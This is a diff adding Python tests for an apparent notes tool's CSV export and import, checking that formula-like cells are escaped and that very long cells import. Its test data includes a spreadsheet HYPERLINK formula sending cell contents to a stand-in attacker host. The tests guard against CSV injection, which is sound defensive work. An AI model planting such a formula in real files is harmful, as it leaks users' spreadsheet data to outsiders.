@@ -318,3 +318,51 @@ def test_watch_never_follows_a_symlink(tmp_path: Path) -> None:
             str(notes.resolve() / "new.md"), str(notes.resolve() / "ok.md")]
         assert not eng.search("What is the vault code?", refuse=False).hits or all(
             "4711" not in h.text for h in eng.search("What is the vault code?", refuse=False).hits)
+
+
+# ----- 18. CSV: formulas, long cells -------------------------------------------------------------
+RISKY = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "+1 555 0100 is the support line",
+         "-5 degrees at night in the hut", "@SUM(A1:A9) leaked into the notes",
+         "'quoted text stays as it is", "'=a quote before a formula", "''two quotes",
+         "A plain note about sourdough"]
+
+
+def test_csv_export_never_writes_a_formula_and_reads_back_exact(tmp_path: Path, cli) -> None:
+    rows = tmp_path / "rows.jsonl"
+    rows.write_text("".join(json.dumps({"text": t, "title": t[:12], "source": f"s{i}", "tags": ["-x", "y"]})
+                            + "\n" for i, t in enumerate(RISKY)))
+    assert cli.json("import", "--from", "jsonl", str(rows))["added"] == len(RISKY)
+    out = tmp_path / "out.csv"
+    assert cli.json("export", "--to", "csv", "--out", str(out))["rows"] == len(RISKY)
+    import csv
+
+    with out.open(newline="") as f:
+        cells = [c for row in list(csv.reader(f))[1:] for c in row]
+    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    assert "'=HYPERLINK(" in out.read_text() and "'-x;y" in out.read_text()
+    # Read back: the same texts, titles and tags, and the same file again.
+    fresh = tmp_path / "fresh.db"
+    assert cli.json("import", "--from", "csv", str(out), db=fresh)["added"] == len(RISKY)
+    for text in RISKY:
+        i = RISKY.index(text)
+        doc = cli.json("documents", "show", f"s{i}", db=fresh)
+        assert (doc["text"], doc["title"], doc["tags"]) == (text, text[:12].strip(), ["-x", "y"])
+    again = tmp_path / "again.csv"
+    cli.json("export", "--to", "csv", "--out", str(again), db=fresh)
+    assert again.read_text() == out.read_text()
+
+
+def test_a_csv_cell_over_131072_characters_does_not_refuse_the_file(tmp_path: Path, cli) -> None:
+    import csv
+
+    long_text = ("The field notes go on about the hut's stove and the long winter. " * 3000)[:200_000]
+    src = tmp_path / "notes.csv"
+    with src.open("w", newline="") as f:
+        w = csv.writer(f)
+        w.writerow(["title", "text"])
+        w.writerow(["Long", long_text])
+        w.writerow(["Short", "A short note about the hut's roof."])
+    rep = cli.json("import", "--from", "csv", str(src))
+    assert (rep["added"], rep["skipped"]) == (2, 0)
+    assert len(cli.json("documents", "show", "csv:notes#2")["text"]) > 190_000
+    assert csv.field_size_limit() == 131072  # the process's limit is left as it was
